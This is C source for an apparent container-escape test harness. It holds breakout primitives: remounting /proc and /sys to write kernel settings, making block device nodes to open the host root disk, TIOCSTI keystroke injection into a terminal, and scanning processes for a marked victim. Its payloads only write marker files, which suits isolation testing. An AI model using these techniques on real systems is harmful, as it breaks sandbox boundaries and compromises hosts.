#include "escape.h"
#include <stdarg.h>

void told(const char *text)
{
	printf("told %s %s\n", id, text);
	fflush(stdout);
}

void note(const char *format, ...)
{
	int error = errno;
	va_list words;
	printf("note %s ", id);
	va_start(words, format);
	vprintf(format, words);
	va_end(words);
	printf(": %s\n", strerror(error));
	fflush(stdout);
}

void linger(void)
{
	if (fork() != 0) return;
	setsid();
	prctl(PR_SET_NAME, id);
	for (int fd = 0; fd < 3; fd++) close(fd);
	alarm(0);
	sleep(120);
	_exit(0);
}

bool write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) return false;
	bool done = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
	return close(fd) == 0 && done;
}

ssize_t read_file(const char *path, char *text, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) return -1;
	ssize_t count = read(fd, text, size - 1);
	close(fd);
	if (count < 0) return -1;
	while (count > 0 && (text[count - 1] == '\n' || text[count - 1] == '\0')) count--;
	text[count] = '\0';
	return count;
}

const char *scratch(void)
{
	static char path[PATH_MAX];
	static const char *const places[] = {"/tmp", "/run", "/dev/shm", "/dev", "", NULL};
	if (path[0] != '\0') return path;
	for (int i = 0; places[i] != NULL; i++) {
		snprintf(path, sizeof(path), "%s/escape-XXXXXX", places[i]);
		if (mkdtemp(path) != NULL) return path;
	}
	path[0] = '\0';
	return NULL;
}

const char *fresh(const char *type, const char *options)
{
	static char path[PATH_MAX];
	const char *place = scratch();
	if (place == NULL) return NULL;
	snprintf(path, sizeof(path), "%s/%s", place, type);
	mkdir(path, 0700);
	if (mount(type, path, type, 0, options) == 0) return path;
	note("mount -t %s", type);
	return NULL;
}

const char *procfs(void)
{
	static char own[PATH_MAX];
	if (access("/proc/self/stat", F_OK) == 0) return "/proc";
	if (own[0] == '\0') {
		const char *path = fresh("proc", NULL);
		if (path == NULL) return "/proc";
		strcpy(own, path);
	}
	return own;
}

const char *cgroupfs(void)
{
	static char own[PATH_MAX];
	if (access("/sys/fs/cgroup/cgroup.procs", W_OK) == 0) return "/sys/fs/cgroup";
	if (own[0] == '\0') {
		const char *path = fresh("cgroup2", NULL);
		if (path == NULL) return NULL;
		strcpy(own, path);
	}
	return own;
}

bool write_kernel(const char *type, const char *path, const char *text)
{
	char file[PATH_MAX];
	const char *root = strcmp(type, "proc") == 0 ? "/proc" : "/sys";
	snprintf(file, sizeof(file), "%s/%s", root, path);
	if (write_file(file, text)) return true;
	int plain = errno;
	mount(NULL, root, NULL, MS_REMOUNT | MS_BIND, NULL);
	mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
	if (write_file(file, text)) return true;
	umount2("/proc/sys", MNT_DETACH);
	if (write_file(file, text)) return true;
	umount2(root, MNT_DETACH);
	if (write_file(file, text)) return true;
	const char *again = fresh(strcmp(type, "proc") == 0 ? "proc" : "sysfs", NULL);
	if (again != NULL) {
		snprintf(file, sizeof(file), "%s/%s", again, path);
		if (write_file(file, text)) return true;
		plain = errno;
	}
	errno = plain;
	note("%s", path);
	return false;
}

int open_node(mode_t type, unsigned major, unsigned minor, int flags)
{
	const char *places[] = {scratch(), "", "/dev", "/run", NULL, NULL};
	if (places[0] == NULL) places[0] = "/tmp";
	int error = 0;
	for (int i = 0; i < 5; i++) {
		char path[PATH_MAX];
		/* A place where nodes work: the others may be mounted with nodev. */
		if (i == 4 && (places[4] = fresh("tmpfs", NULL)) == NULL) break;
		snprintf(path, sizeof(path), "%s/node-%u-%u", places[i], major, minor);
		if (mknod(path, type | 0600, makedev(major, minor)) != 0 && errno != EEXIST) {
			error = errno;
			continue;
		}
		int fd = open(path, flags | O_CLOEXEC);
		error = errno;
		unlink(path);
		if (fd >= 0) return fd;
	}
	errno = error;
	note("node %u:%u", major, minor);
	return -1;
}

static bool is_ext4(int fd)
{
	unsigned char magic[2];
	return pread(fd, magic, 2, 1024 + 56) == 2 && magic[0] == 0x53 && magic[1] == 0xef;
}

bool root_disk(unsigned *major, unsigned *minor)
{
	static const char *const bound[] = {"/lib", "/bin/busybox", "/bin/sh", "/", NULL};
	struct stat found;
	for (int i = 0; bound[i] != NULL; i++) {
		if (stat(bound[i], &found) != 0 || major(found.st_dev) == 0) continue;
		*major = major(found.st_dev);
		*minor = minor(found.st_dev);
		return true;
	}
	/* Block majors that the kernel gives out: virtio's is one of them. */
	for (unsigned number = 254; number >= 240; number--) {
		int fd = open_node(S_IFBLK, number, 0, O_RDONLY);
		if (fd < 0) continue;
		bool matches = is_ext4(fd);
		close(fd);
		if (!matches) continue;
		*major = number;
		*minor = 0;
		return true;
	}
	return false;
}

bool append_at(int dir, const char *path)
{
	int fd = openat(dir, path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0) return false;
	bool done = write(fd, container, strlen(container)) > 0;
	close(fd);
	return done;
}

void reach(int root)
{
	char path[PATH_MAX], text[200];
	int fd = openat(root, "escaped/secret", O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		ssize_t count = read(fd, text, sizeof(text) - 1);
		close(fd);
		if (count > 0) {
			text[count] = '\0';
			text[strcspn(text, "\n")] = '\0';
			told(text);
		}
	}
	snprintf(path, sizeof(path), "escaped/%s", id);
	append_at(root, path);
}

void reach_path(const char *path)
{
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) return;
	reach(fd);
	close(fd);
}

bool type_into(int tty)
{
	char line[300];
	/* Nothing else prints these words: where they show up, they were typed. */
	snprintf(line, sizeof(line), "\n: > /escaped/%s # typed-by-%s-%s\n", id, container, id);
	for (const char *at = line; *at != '\0'; at++)
		if (ioctl(tty, TIOCSTI, at) != 0) {
			note("TIOCSTI");
			return false;
		}
	return true;
}

bool is_victim(const char *proc, const char *pid)
{
	char path[PATH_MAX], text[64];
	snprintf(path, sizeof(path), "%s/%s/comm", proc, pid);
	return read_file(path, text, sizeof(text)) > 0 && strncmp(text, "escape-victim", 13) == 0;
}

void each_process(void (*with)(const char *, const char *))
{
	const char *proc = procfs();
	DIR *all = opendir(proc);
	if (all == NULL) return;
	for (struct dirent *one; (one = readdir(all)) != NULL;)
		if (one->d_name[0] >= '1' && one->d_name[0] <= '9') with(proc, one->d_name);
	closedir(all);
}
